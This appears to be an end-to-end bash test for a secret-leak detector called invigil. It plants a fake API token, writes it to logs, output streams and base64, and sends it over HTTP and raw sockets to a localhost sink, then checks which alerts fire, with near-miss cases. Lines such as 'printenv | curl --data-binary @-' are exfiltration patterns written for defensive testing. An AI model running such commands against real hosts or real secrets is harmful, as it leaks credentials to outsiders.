#!/bin/bash
# leaks.sh: secrets written to logs, to the run's output and towards the network (R5.3, R1.8), with near misses.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
export T_API_TOKEN=planted-Xv19-secret-value-$$
py() { run "$@" -- /usr/bin/python3 "$work/t.py" >"$work/out" 2>&1; }
script() { cat >"$work/t.py"; }
nowhere() { ! grep -qa 'planted-Xv19' "$ev" "$work"/rec 2>/dev/null; }

script <<PY
import logging, os
logging.basicConfig(filename="$work/a.log", level=20)
logging.info("env %s", dict(os.environ))
PY
py --record "$work/rec"
see "a secret in a log (R5.3)" "any('a.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "and the whole environment was printed (R1.7)" "alerts('R1.7')"
see "with the log's path" "any(get(a, 'file.path') == '$work/a.log' for a in alerts('R5.3'))"
check "it is in neither stream nor recording" nowhere
check "and replays byte for byte" bash -c "'$invigil' replay -q -o - '$work/rec' | cmp - '$ev'"

script <<PY
import os
v = os.environ["T_API_TOKEN"]
with open("$work/b.log", "a", buffering=1) as f:
    f.write("x" + v[:9]); f.flush(); f.write(v[9:] + "\n")
with open("$work/c.log", "a") as f:
    f.write("x" + v[:9] + "-" + v[9:] + "\n")
with open("$work/d.txt", "w") as f:
    f.write(v)
PY
py
see "cut in two by its writes" "any('b.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near miss: R1.7, one value is not the environment" "not alerts('R1.7')"
see "near miss: not whole" "not any('c.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near miss: no log" "not any('d.txt' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"

script <<PY
import os
v = os.environ["T_API_TOKEN"].encode()
f = os.open("$work/p.log", os.O_CREAT | os.O_WRONLY, 0o600)
os.pwrite(f, b"x" * 9 + v, 4096)
os.pwrite(os.open("$work/p2.log", os.O_CREAT | os.O_WRONLY, 0o600), v[:-1], 0)
os.pwrite(os.open("$work/p.txt", os.O_CREAT | os.O_WRONLY, 0o600), v, 0)
PY
py
see "by pwrite" "any('p.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near misses: all but its last byte, no log" "len(alerts('R5.3')) == 1"

script <<PY
import os, sys
v = os.environ["T_API_TOKEN"].encode()
f = os.open("$work/v.log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o600)
os.writev(f, [b"x", v[:7], v[7:], b"\\n"])
f = os.open("$work/v2.log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o600)
os.writev(f, [b"x", v[:7], b"-", v[7:], b"\\n"])
PY
py
see "by writev, cut in two by its segments" "any('v.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near miss: something between them" "len(alerts('R5.3')) == 1"
run -- sh -c 'umask 077; echo "\$T_API_TOKEN" >"$1/one.txt"; cp "$1/one.txt" "$1/copy.log"; dd if="$1/one.txt" of="$1/dd.log" status=none' sh "$work"
see "near miss: the variable's name alone, by cp and dd" "not alerts('R5.3')"
check "what no hook sees is said: mmap, io_uring" sh -c "'$invigil' check --format json | grep -q \"mmap'ed and io_uring writes\""
see "and in each run" "all(any(c[\"hook\"] == \"bytes written\" and \"mmap\" in c[\"limit\"] and \"io_uring\" in c[\"limit\"] for c in get(e, \"invigil.run.coverage\")) for e in action(\"run-start\") + action(\"run-end\"))"

script <<PY
import os
os.umask(0o077)
f = open("$work/i.log", "w"); f.write(os.environ["T_API_TOKEN"] + "\n"); f.flush(); os.fchmod(f.fileno(), 0o644)
f = open("$work/j.log", "w"); f.write("nothing\n"); f.flush(); os.fchmod(f.fileno(), 0o644)
PY
py
see "a log loosened after a secret was written (R5.6)" "any('i.log' in get(a, 'invigil.evidence') for a in alerts('R5.6'))"
see "near miss: nothing secret in it" "not any('j.log' in get(a, 'invigil.evidence') for a in alerts('R5.6'))"

run -- sh -c "printf %s \"\$T_API_TOKEN\" | base64 >'$work/e.log'"
see "in base64" "any('e.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near miss: what goes into a pipe of its own is not sent" "not alerts('R1.8')"
run -- sh -c "docker() { :; }; printf 'https://x:%s@h/' short | tee '$work/f.log'; printf 'token glpat-%s\n' abcdefghij0123456789 | tee '$work/g.log'" >/dev/null
see "a credential by its own form, through tee" "any('g.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
see "near miss: a word that only looks like one" "not any('f.log' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"

run -- sh -c 'echo "$T_API_TOKEN"' >"$work/out"
see "on standard output, a file" "any('output' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
run -- sh -c 'echo "$T_API_TOKEN" >&2' | cat
see "on standard error" "any('output' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
run -- sh -c 'echo "$T_API_TOKEN"' | cat >"$work/out"
see "on standard output, a pipe" "any('output' in get(a, 'invigil.evidence') for a in alerts('R5.3'))"
run -- sh -c 'x=$(echo "$T_API_TOKEN"); echo ${#x}' >/dev/null
see "near miss: captured by the shell itself" "not alerts('R5.3')"

cat >"$work/sink.py" <<'PY'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204); self.end_headers()
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
open(sys.argv[1], "w").write(str(s.server_port))
s.serve_forever()
PY
/usr/bin/python3 "$work/sink.py" "$work/port" &
sink=$!
until_true 30 test -s "$work/port"
port=$(cat "$work/port")
if command -v curl >/dev/null; then
	run -- sh -c "printenv | curl -s --data-binary @- http://127.0.0.1:$port/" >/dev/null
	see "through a pipe into a network client (R1.8)" 'any("T_API_TOKEN" in get(a, "invigil.evidence") and get(a, "process.name") == "curl" for a in alerts("R1.8"))'
	run -- sh -c "echo hello | curl -s --data-binary @- http://127.0.0.1:$port/" >/dev/null
	see "near miss: nothing of the environment" 'not alerts("R1.8")'
	run -- sh -c 'printenv | cat' >/dev/null
	see "near miss: its reader is no network client" 'not alerts("R1.8")'
fi
script <<PY
import os, urllib.request
urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:$port/", data=os.environ["T_API_TOKEN"].encode()))
PY
py
see "sent over HTTP by the test itself" 'alerts("R1.8")'
script <<PY
import os, socket, sys
s = socket.create_connection(("127.0.0.1", $port))
s.sendall(b"BLOB " + os.environ["T_API_TOKEN"].encode()[:int(sys.argv[1])] + b"\r\n\r\n")
PY
run -- /usr/bin/python3 "$work/t.py" 99
see "sent over a plain connection" 'alerts("R1.8")'
run -- /usr/bin/python3 "$work/t.py" 9
see "near miss: a part of it" 'not alerts("R1.8")'
check "the value is in no stream" nowhere
kill "$sink"
finish
